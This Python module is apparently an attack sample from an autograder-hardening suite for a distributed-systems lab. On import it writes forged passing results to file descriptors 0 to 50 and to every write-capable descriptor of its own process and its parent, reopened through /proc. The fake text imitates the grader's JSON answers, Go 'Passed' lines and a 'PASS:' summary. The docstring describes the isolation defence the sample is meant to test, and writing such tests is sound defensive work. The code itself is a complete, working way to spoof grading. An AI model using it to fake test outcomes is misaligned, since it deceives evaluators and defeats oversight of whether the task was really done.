"""Attack: at import, write forged success to every output channel within reach: each fd 0..50 open for writing,
and every fd of this process and of its parent reopened through /proc (so even a pipe's read end, the parent's
stdin, or the worker protocol's answer pipe gets a write end). The text imitates a worker's JSON answer, the Go "Passed"
line and the CLI's "PASS:" summary. Isolated, the verdict must not come from any channel student code can
write to, and the trusted side's fds must be out of reach."""
import fcntl as _tamper_fcntl
import json as _tamper_json
import os as _tamper_os
import stat as _tamper_stat

_TAMPER_ANSWER = _tamper_json.dumps({"test": "TestInitialElection2A", "seed": 1, "passed": True, "message": "",
                                     "virtual_s": 1.0, "real_s": 0.1, "rpcs": 1, "bytes": 1, "trace_hash": "x",
                                     "output": ""})
# JSON answers first, enough for a reader of JSON lines to take one for each of its next runs before it meets the
# lines meant for a terminal.
_TAMPER_FORGED = (f"{_TAMPER_ANSWER}\n" * 8 + "  ... Passed --   1.0  3   10    1000    0\nPASS: 1 passed\n").encode()

_TAMPER_OPEN_FLAGS = _tamper_os.O_WRONLY | _tamper_os.O_APPEND | _tamper_os.O_NONBLOCK | _tamper_os.O_NOCTTY


def _tamper_write_fds():
    for fd in range(51):
        try:
            if _tamper_fcntl.fcntl(fd, _tamper_fcntl.F_GETFL) & _tamper_os.O_ACCMODE != _tamper_os.O_RDONLY:
                _tamper_os.write(fd, _TAMPER_FORGED)
        except OSError:
            pass


def _tamper_write_proc(pid):
    try:
        names = _tamper_os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return
    for name in names:
        try:
            path = f"/proc/{pid}/fd/{name}"
            with open(f"/proc/{pid}/fdinfo/{name}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
            read_only = flags & _tamper_os.O_ACCMODE == _tamper_os.O_RDONLY
            if read_only and _tamper_stat.S_ISREG(_tamper_os.stat(path).st_mode):
                continue   # a file being read (source, data): the target is output channels, not the disk
            fd = _tamper_os.open(path, _TAMPER_OPEN_FLAGS)
            try:
                _tamper_os.write(fd, _TAMPER_FORGED)
            finally:
                _tamper_os.close(fd)
        except (OSError, ValueError, IndexError):
            pass


_tamper_write_fds()
_tamper_write_proc(_tamper_os.getppid())
_tamper_write_proc("self")
